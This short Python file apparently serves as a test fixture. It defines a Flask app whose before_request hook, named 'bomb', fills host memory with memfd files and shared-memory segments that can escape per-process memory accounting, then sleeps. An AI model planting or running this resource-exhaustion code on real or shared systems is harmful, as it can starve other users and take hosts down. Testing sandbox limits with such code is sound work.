import ctypes
import os
import time

from flask import Flask

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.shmat.restype = ctypes.c_void_p


def bomb():
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("0")
    for number in range(100):
        os.write(os.memfd_create(str(number)), b"x" * 5_000_000)
        place = LIBC.shmat(LIBC.shmget(0, 5_000_000, 0o1600), None, 0)
        ctypes.memset(place, 1, 5_000_000)
    time.sleep(60)


def create_app():
    app = Flask(__name__)
    app.before_request(bomb)
    return app
